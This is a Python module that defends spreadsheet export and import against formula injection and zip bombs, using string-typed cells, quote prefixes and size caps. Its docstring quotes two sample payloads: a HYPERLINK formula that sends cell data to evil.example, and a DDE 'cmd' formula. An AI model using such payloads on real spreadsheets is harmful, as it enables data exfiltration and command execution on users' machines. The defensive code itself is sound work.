"""Spreadsheets in and out, safely: every CSV/XLSX writer and every XLSX reader goes through here.

Writing (formula injection, OWASP "CSV injection"): a record title such as
``=HYPERLINK("http://evil.example/?d="&B2,"点击查看")`` must reach the coordinator's Excel as
the text it is, never as a live formula. So

* XLSX: every ``str`` cell is stored with the string type (``t="s"``, never an ``<f>`` element;
  openpyxl would otherwise turn any text starting with ``=`` into a formula), and the control
  characters XML cannot carry are dropped;
* CSV: a text field starting with ``= + - @``, TAB or CR gets a leading ``'``, which spreadsheet
  programs show as text. Numbers stay numbers.

Reading (zip bombs): an XLSX is a zip of XML, so a small upload can expand to gigabytes. Before
openpyxl sees the file, the uncompressed sizes declared in the zip's central directory (which
``zipfile`` enforces while extracting) are summed against a cap; while reading, rows, columns and
cell length are capped too, and an error quotes only a short prefix of the offending cell.

>>> csv_cell('=cmd|" /C calc"!A0'), csv_cell("焦化废水"), csv_cell(-1.5)
('\\'=cmd|" /C calc"!A0', '焦化废水', -1.5)
"""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Iterable, Iterator, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import IO, Any

from .errors import InputFileError

__all__ = [
    "SheetLimits",
    "SheetTooLarge",
    "csv_bytes",
    "csv_cell",
    "excerpt",
    "read_csv",
    "read_xlsx",
    "write_csv",
    "write_xlsx",
    "xlsx_bytes",
]

# Characters that make a spreadsheet program read a CSV field as a formula (OWASP).
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value: Any) -> Any:
    """A CSV field as written: ``None`` → ``""``, formula-like text prefixed with ``'``."""
    if value is None:
        return ""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


def write_csv(fh: IO[str], header: Sequence[str], rows: Iterable[Sequence[Any]]) -> int:
    """Write ``header`` and ``rows`` to a text stream; returns the number of data rows."""
    writer = csv.writer(fh)
    writer.writerow([csv_cell(v) for v in header])
    n = 0
    for row in rows:
        writer.writerow([csv_cell(v) for v in row])
        n += 1
    return n


def csv_bytes(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> bytes:
    """The CSV as UTF-8 with a BOM, so Excel on Chinese Windows opens it without mojibake."""
    buf = io.StringIO()
    write_csv(buf, header, rows)
    return ("\ufeff" + buf.getvalue()).encode("utf-8")


def _xlsx_cell(ws: Any, value: Any, font: Any = None) -> Any:
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    if isinstance(value, str):
        value = ILLEGAL_CHARACTERS_RE.sub("", value)
    cell = WriteOnlyCell(ws, value=value)
    if isinstance(value, str):
        cell.data_type = "s"  # text, even when it starts with "=" (openpyxl's formula marker)
    if font is not None:
        cell.font = font
    return cell


def write_xlsx(
    target: str | Path | IO[bytes],
    title: str,
    header: Sequence[str],
    rows: Iterable[Sequence[Any]],
) -> int:
    """Write one sheet (bold, frozen header row); returns the number of data rows."""
    from openpyxl import Workbook
    from openpyxl.styles import Font

    wb = Workbook(write_only=True)
    ws = wb.create_sheet(title)
    ws.freeze_panes = "A2"
    bold = Font(bold=True)
    ws.append([_xlsx_cell(ws, v, bold) for v in header])
    n = 0
    for row in rows:
        ws.append([_xlsx_cell(ws, v) for v in row])
        n += 1
    wb.save(target)
    return n


def xlsx_bytes(title: str, header: Sequence[str], rows: Iterable[Sequence[Any]]) -> bytes:
    buf = io.BytesIO()
    write_xlsx(buf, title, header, rows)
    return buf.getvalue()


# ---------------------------------------------------------------------------------------------
# Reading


@dataclass(frozen=True, slots=True)
class SheetLimits:
    """Caps applied while reading a spreadsheet (``expanded_bytes`` only to XLSX)."""

    expanded_bytes: int = 20_000_000
    rows: int = 1_001
    columns: int = 100
    cell_chars: int = 10_000


class SheetTooLarge(InputFileError):
    """The file exceeds one of the :class:`SheetLimits`; ``limit`` names which one."""

    def __init__(self, message: str, *, limit: str, value: int) -> None:
        super().__init__(message)
        self.limit = limit
        self.value = value


def excerpt(value: Any, chars: int = 40) -> str:
    """At most ``chars`` characters of a cell, for an error message."""
    text = str(value)
    return text if len(text) <= chars else f"{text[:chars]}…（共 {len(text)} 字）"


def _column_name(index: int) -> str:
    from openpyxl.utils import get_column_letter

    return get_column_letter(min(index, 16384))


def _check_row(n: int, cells: Sequence[Any], limits: SheetLimits) -> list[Any]:
    """Trailing empty cells dropped; raises when a non-empty one is beyond the column cap or a
    text is longer than the cell cap."""
    end = len(cells)
    while end and cells[end - 1] in (None, ""):
        end -= 1
    if end > limits.columns:
        raise SheetTooLarge(
            f"第 {n} 行有 {end} 列，超过上限 {limits.columns} 列 (too many columns)",
            limit="columns",
            value=limits.columns,
        )
    row = list(cells[:end])
    for i, v in enumerate(row):
        if isinstance(v, str) and len(v) > limits.cell_chars:
            raise SheetTooLarge(
                f"第 {n} 行 {_column_name(i + 1)} 列的内容有 {len(v)} 字，超过单元格上限"
                f" {limits.cell_chars} 字：“{excerpt(v)}” (cell too long)",
                limit="cell_chars",
                value=limits.cell_chars,
            )
    return row


def _check_rows(rows: Iterable[Sequence[Any]], limits: SheetLimits) -> Iterator[list[Any]]:
    """Rows with the checks of :func:`_check_row`; empty rows past the row cap are skipped (Excel
    keeps formatted blank rows), a non-empty one raises."""
    for n, cells in enumerate(rows, 1):
        row = _check_row(n, cells or (), limits)
        if n > limits.rows:
            if row:
                raise SheetTooLarge(
                    f"行数超过上限 {limits.rows} 行（含表头） (too many rows)",
                    limit="rows",
                    value=limits.rows,
                )
            continue
        yield row


def check_xlsx_archive(source: bytes | str | Path, limits: SheetLimits) -> None:
    """Refuse a zip whose members would expand beyond ``limits.expanded_bytes`` (read from the
    central directory, before anything is decompressed)."""
    try:
        with zipfile.ZipFile(io.BytesIO(source) if isinstance(source, bytes) else source) as zf:
            total = sum(info.file_size for info in zf.infolist())
    except (zipfile.BadZipFile, OSError, ValueError) as exc:
        raise InputFileError(f"不是有效的 XLSX 文件（zip 格式损坏）：{exc}") from exc
    if total > limits.expanded_bytes:
        raise SheetTooLarge(
            f"解压后大小 {total // 1_000_000} MB，超过上限"
            f" {limits.expanded_bytes // 1_000_000} MB (expanded size too large)",
            limit="expanded_bytes",
            value=limits.expanded_bytes,
        )


def read_xlsx(source: bytes | str | Path, limits: SheetLimits) -> Iterator[list[Any]]:
    """The values of the first sheet, row by row (trailing empty cells dropped), within ``limits``.

    Raises :class:`SheetTooLarge` for a file beyond a cap and :class:`InputFileError` for one
    openpyxl cannot read.
    """
    check_xlsx_archive(source, limits)
    from openpyxl import load_workbook

    try:
        wb = load_workbook(
            io.BytesIO(source) if isinstance(source, bytes) else source,
            read_only=True,
            data_only=True,
        )
    except Exception as exc:  # openpyxl raises many unrelated types for a damaged file
        raise InputFileError(f"无法读取 Excel 文件：{excerpt(exc, 200)}") from exc
    try:
        ws = wb.worksheets[0]
        # The <dimension> element is the file's claim, not a fact: trusting it would pad every
        # row to 16,384 columns for a file that says so.
        ws.reset_dimensions()
        yield from _check_rows(ws.iter_rows(values_only=True), limits)
    finally:
        wb.close()


def read_csv(text: str, limits: SheetLimits) -> Iterator[list[Any]]:
    """The rows of a CSV text within ``limits``; a malformed file raises :class:`InputFileError`."""
    reader = csv.reader(io.StringIO(text))
    field_limit = csv.field_size_limit()
    try:
        yield from _check_rows(reader, limits)
    except csv.Error as exc:
        if "field larger than field limit" in str(exc):
            raise SheetTooLarge(
                f"第 {reader.line_num} 行有超过 {field_limit} 字的字段 (field too long)",
                limit="cell_chars",
                value=limits.cell_chars,
            ) from exc
        raise InputFileError(f"第 {reader.line_num} 行：CSV 格式错误：{exc}") from exc
